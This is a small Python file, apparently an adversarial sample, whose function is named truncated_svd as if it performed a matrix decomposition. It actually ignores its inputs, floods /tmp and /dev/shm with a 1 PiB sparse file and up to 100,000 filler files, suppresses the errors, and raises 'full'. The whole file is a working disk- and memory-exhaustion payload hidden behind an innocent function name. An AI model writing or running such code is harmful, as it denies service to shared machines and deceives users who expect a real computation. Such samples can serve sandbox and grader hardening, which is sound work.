"""Fills /tmp and /dev/shm with bytes, with files and with sparse files."""

import os


def truncated_svd(A, rank):
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/sparse", "wb") as file:
                file.truncate(1 << 50)
        except OSError:
            pass
        try:
            for number in range(10**5):
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(1 << 16))
        except OSError:
            pass
    raise OSError("full")
